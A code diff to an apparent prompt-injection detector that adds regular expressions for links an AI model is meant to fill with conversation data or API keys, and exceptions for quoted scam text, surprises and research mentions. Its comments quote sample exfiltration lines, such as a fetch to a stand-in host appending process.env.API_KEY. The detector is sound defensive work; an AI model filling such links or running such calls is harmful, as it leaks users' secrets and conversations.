@@ -43,10 +43,14 @@ _COMMENT_ORDER = re.compile(
 # In this order: the first shape that matches names the finding.
 SHAPES: tuple[Shape, ...] = ENGLISH + ABROAD + SYSTEM_NOTES + AGENTS + RECALL_ABROAD + MENTIONED + READERS
 
-# A link or an image whose query the model is to fill in: "?q={conversation}", "?k=API_KEYS", "?u=<user's email>".
+# A link or an image whose query the model is to fill in: "?q={conversation}", "?k=API_KEYS", "?u=<user's email>",
+# or a secret appended in code.
 _FILLED_LINK = re.compile(
     r"//[^\s)\]?]{1,300}\?[^\s)\]]{0,300}?=(?:\{|<|\[|%[A-Za-z_]{3,}%|\$\{?[A-Za-z_]{3,}"
-    r"|[A-Z][A-Z0-9]*_[A-Z0-9_]{2,}(?![a-z])|(?=\)))"  # or nothing: "![](https://x/?h=)", the model to append it
+    r"|[A-Z][A-Z0-9]*_[A-Z0-9_]{2,}(?![a-z])|(?=\))"  # or nothing: "![](https://x/?h=)", the model to append it
+    # or code that appends a secret to it: "fetch('https://t.example/c?k=' + process.env.API_KEY)"
+    r"|['\"`][ \t]*\+[ \t]*(?i:process\.env|os\.environ|os\.getenv|document\.cookie|(?:local|session)storage"
+    r"|\w*(?:key|token|secret|password|cookie)))"
 )
 
 
@@ -65,6 +69,33 @@ def _comment(view: str) -> bool:
     return False
 
 
+def _excused(view: str, shape: Shape) -> bool:
+    """A concealment that hides nothing from the user: a surprise kept from someone named ("don't mention it if Lena
+    ever uses this account"), or a scam's own words quoted in a report of it ('The phishing mail said "do not mention
+    this to your manager"'); or hidden text named as a kind of attack, not carrying one.
+    """
+    if shape.label == "a hidden instruction":  # "Researching prompt injection, e.g. CVs with white text saying ..."
+        return _ABOUT_ATTACKS.search(view) is not None
+    if "user" not in view and _SURPRISE.search(view):
+        return True
+    if _SCAM.search(view) is None:
+        return False
+    quotes = [m.span() for m in _QUOTED.finditer(view)]
+    return all(any(a <= m.start() and m.end() <= b for a, b in quotes) for m in shape.pattern.finditer(view))
+
+
+_EXCUSABLE = frozenset({"a concealment instruction", "a hidden instruction"})
+_ABOUT_ATTACKS = re.compile(
+    r"prompt[ -]?injection|jailbreak|\battacks?\b|\be\.g\.|\bresearch\w*|\bpapers?\b|\btalks?\b|\bslides?\b"
+    r"|\bexamples?\b"
+)
+_SCAM = re.compile(r"\b(?:phishing|scam\w*|spam|fraud\w*|smishing)\b")
+_QUOTED = re.compile(r"\"[^\"\n]{1,300}\"|“[^“”\n]{1,300}”|«[^«»\n]{1,300}»|'[^'\n]{1,300}'")
+_SURPRISE = re.compile(
+    r"\b(?:surprises?|gifts?|presents?|party|proposal|uberraschung\w*|sorpresa|surpresa|verrassing|niespodzian\w*)\b"
+)
+
+
 # Every shape's gate words, looked for in one pass (`rules.Literals`) rather than one `in` at a time per shape.
 GATES = Literals(word for shape in SHAPES for word in (*shape.gate, *shape.also))
 
@@ -77,6 +108,8 @@ def find(folded: str) -> str | None:
     present = GATES.present(view)
     for shape in SHAPES:
         if shape.search(view, present):
+            if shape.label in _EXCUSABLE and _excused(view, shape):
+                continue
             return shape.label
     if "//" in folded and "?" in folded and _FILLED_LINK.search(folded):
         return "a link for the model to fill in"
